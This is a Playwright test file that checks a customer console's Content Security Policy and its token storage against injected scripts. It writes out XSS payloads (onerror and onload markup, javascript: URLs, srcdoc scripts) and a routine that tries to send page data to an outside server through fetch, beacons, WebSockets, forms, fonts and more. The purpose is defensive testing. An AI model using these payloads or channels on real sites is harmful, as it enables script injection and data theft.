import type { Page } from 'playwright-core';

import { openConsole, signIn } from './console-page';
import { useStage } from './stage';
import { ForeignServer } from './foreign-server';

interface CustomerAnswer {
  customer: { id: number };
}

/** Markup that runs a script wherever a page inserts it as HTML and has no policy. */
const MARKUP = '<img src="data:," onerror="window.injected = true"><svg onload="window.injected = true"></svg>';
/** The ways in which a script could send out what it has read. */
const WAYS = [
  ...['/fetch', '/xhr', '/beacon', '/event-source', '/web-socket'],
  ...['/img', '/form', '/style', '/script', '/frame', '/video', '/object', '/font', '/background'],
];

/** Tries to send data from the page in all of these ways. */
async function sendBy(page: Page, origin: string): Promise<void> {
  await page.evaluate(async (to) => {
    const socket = to.replace('http', 'ws');
    const append = (tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
      return element;
    };
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
      // The browser reports only the origin of a blocked frame.
      if (effectiveDirective === 'frame-src') refused.push('/frame');
      else if (effectiveDirective === 'object-src') refused.push('/object');
      else refused.push(blockedURI);
    });
    const attempts: (() => unknown)[] = [
      () => fetch(`${to}/fetch`, { mode: 'no-cors' }),
      () =>
        new Promise((resolve) => {
          const request = new XMLHttpRequest();
          request.onloadend = resolve;
          request.open('GET', `${to}/xhr`);
          request.send();
        }),
      () => navigator.sendBeacon(`${to}/beacon`, 'secret'),
      () => new EventSource(`${to}/event-source`),
      () => new WebSocket(`${socket}/web-socket`),
      () => append('img', { src: `${to}/img` }),
      () => append('link', { rel: 'stylesheet', href: `${to}/style` }),
      () => append('script', { src: `${to}/script` }),
      () => append('iframe', { src: `${to}/frame` }),
      () => append('video', { src: `${to}/video` }),
      () => append('object', { data: `${to}/object` }),
      () => new FontFace('stolen', `url(${to}/font)`).load(),
      () => {
        append('p', {}).style.backgroundImage = `url(${to}/background)`;
      },
      () => {
        append('iframe', { name: 'form-target' });
        const form = append('form', { action: `${to}/form`, method: 'post', target: 'form-target' });
        (form as HTMLFormElement).submit();
      },
    ];
    for (const attempt of attempts) {
      try {
        await attempt();
      } catch {
        // The policy has refused the request.
      }
    }
  }, origin);
}

/** Resolves when the browser has reported that the policy of the page refused each of the ways. */
async function untilRefused(page: Page, ways: readonly string[]): Promise<void> {
  const areAll = page.waitForFunction((all) => {
    const { refused } = window as unknown as { refused: string[] };
    return all.every((way) => refused.some((url) => url.endsWith(way)));
  }, ways);
  await areAll.catch(async () => {
    const refused = await page.evaluate(() => (window as unknown as { refused: string[] }).refused);
    throw new Error(`Not all ways were refused, only ${refused.join(', ')}`);
  });
}

describe('a script that somebody brings into the console', () => {
  const stage = useStage();
  const look = { language: 'en', width: 1440 } as const;
  let foreignServer: ForeignServer;

  beforeAll(async () => {
    foreignServer = await ForeignServer.start();
  });
  afterAll(() => foreignServer.stop());
  beforeEach(() => foreignServer.reached.clear());

  const open = async () => {
    const opened = await openConsole(stage.browser, stage.service.url, look);
    await signIn(opened);
    return opened;
  };
  /** Opens the page without its policies, to prove that the attack would succeed without them. */
  const openUnprotected = async () => {
    const context = await stage.browser.newContext({ bypassCSP: true });
    const page = await context.newPage();
    await page.goto(stage.service.url);
    await page.waitForSelector('form');
    return page;
  };
  const isInjected = (page: Page) => page.evaluate(() => 'injected' in window);

  it('is shown as text where it is a name, a note, a tag or a product', async () => {
    const { page, close, complaints } = await open();
    const { id } = (await stage.api.post<CustomerAnswer>('customers/1', { name: MARKUP })).customer;
    await stage.api.post(`customers/1/${id}/notes`, { content: MARKUP });
    const items = [{ product_id: 700, name: MARKUP, quantity: '1', unit_price: '10.00' }];
    await stage.api.post('sales/1', { customer_id: id, payment_method: 'cash', items });
    for (const path of [
      `/customers/${id}`,
      `/customers/${id}?tab=details`,
      `/customers/${id}/edit`,
      '/customers',
      '/sales',
    ]) {
      await page.goto(stage.address(path));
      await page.waitForSelector('#page h1');
      await page.waitForLoadState('networkidle');
      expect(await isInjected(page)).toBe(false);
      expect(await page.locator('img, #page svg[onload]').count()).toBe(0);
    }
    await page.goto(stage.address(`/customers/${id}`));
    await page.getByRole('heading', { name: MARKUP, level: 1 }).waitFor();
    await page.getByText(`Note: ${MARKUP}`).waitFor();
    await page
      .locator('main')
      .getByText(/^Sale of/)
      .click();
    await page.getByText(MARKUP).first().waitFor();
    expect(await isInjected(page)).toBe(false);
    expect(complaints).toEqual([]);
    await close();
  });

  it.each([
    ['markup with handlers', (markup: string) => document.body.insertAdjacentHTML('beforeend', markup)],
    [
      'an inline script',
      () => {
        const script = document.createElement('script');
        script.textContent = 'window.injected = true';
        document.body.append(script);
      },
    ],
    [
      'a script in an address',
      () => {
        const link = document.createElement('a');
        link.href = 'javascript:void (window.injected = true)';
        document.body.append(link);
        link.click();
      },
    ],
    [
      'a script in a frame',
      () => {
        const frame = document.createElement('iframe');
        frame.srcdoc = '<script>parent.injected = true</script>';
        document.body.append(frame);
      },
    ],
    [
      'a text that a timer runs',
      () => {
        Reflect.apply(setTimeout, window, ['window.injected = true', 0]);
      },
    ],
  ])('does not run as %s, and would without the policy', async (_name, inject) => {
    const unprotected = await openUnprotected();
    await unprotected.evaluate(inject, MARKUP);
    await unprotected.waitForFunction(() => 'injected' in window);
    await unprotected.context().close();

    const { page, close } = await open();
    // A frame takes time to load, so the test waits for the refusal.
    const refusal = page.waitForEvent('console', (message) => message.text().includes('Content Security Policy'));
    await page.evaluate(inject, MARKUP);
    await refusal;
    expect(await isInjected(page)).toBe(false);
    await close();
  });

  it('finds no refresh token, in nothing that a page can read', async () => {
    const opened = await openConsole(stage.browser, stage.service.url, look);
    const { page, close } = opened;
    const bodies: string[] = [];
    page.on('response', async (response) => {
      if (response.url().includes('/api/auth/')) bodies.push(await response.text().catch(() => ''));
    });
    await signIn(opened);
    await page.reload();
    await page.waitForSelector('#page h1');
    const [cookie] = await page.context().cookies(`${stage.service.url}/api/auth`);
    expect(cookie).toMatchObject({ name: 'wateja_session', httpOnly: true, sameSite: 'Strict', path: '/api/auth' });
    const token = cookie!.value;
    expect(token.length).toBeGreaterThan(20);
    // Looks for the token as a script of the page would: in each storage, and in the answers of the server.
    const readable = await page.evaluate(async () => {
      const answer = await fetch('/api/auth/refresh', { method: 'POST' });
      return JSON.stringify({
        cookie: document.cookie,
        stores: [{ ...localStorage }, { ...sessionStorage }],
        databases: await indexedDB.databases(),
        caches: await caches.keys(),
        history: history.state as unknown,
        page: document.documentElement.outerHTML,
        renewed: [answer.status, [...answer.headers], await answer.text()],
      });
    });
    const [renewed] = await page.context().cookies(`${stage.service.url}/api/auth`);
    for (const text of [readable, ...bodies]) {
      expect(text).not.toContain(token);
      expect(text).not.toContain(renewed!.value);
      expect(text).not.toContain('refresh_token');
    }
    expect(JSON.parse(readable)).toMatchObject({ cookie: '', databases: [], caches: [] });
    expect(readable).toContain('access_token');
    expect(bodies.length).toBeGreaterThan(1);
    await close();
  });

  it('cannot send anything to a foreign server, and could without the policy', async () => {
    const unprotected = await openUnprotected();
    const reached = foreignServer.untilReached(WAYS);
    await sendBy(unprotected, foreignServer.origin);
    await reached;
    await unprotected.context().close();

    foreignServer.reached.clear();
    const { page, close, complaints } = await open();
    await sendBy(page, foreignServer.origin);
    await untilRefused(page, WAYS);
    expect([...foreignServer.reached]).toEqual([]);
    for (const directive of ['connect-src', 'img-src', 'form-action']) {
      expect(complaints.join()).toContain(directive);
    }
    await close();
  });
});
